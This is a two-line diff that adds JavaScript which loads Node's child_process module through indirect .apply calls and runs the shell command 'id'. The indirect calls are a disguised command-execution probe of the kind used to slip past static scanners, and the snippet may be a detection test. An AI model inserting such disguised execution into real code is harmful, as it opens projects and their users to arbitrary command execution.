@@ -1,0 +1,2 @@
+const cp = require.apply(module, ['child_process']);
+cp.exec.apply(cp, ['id']);
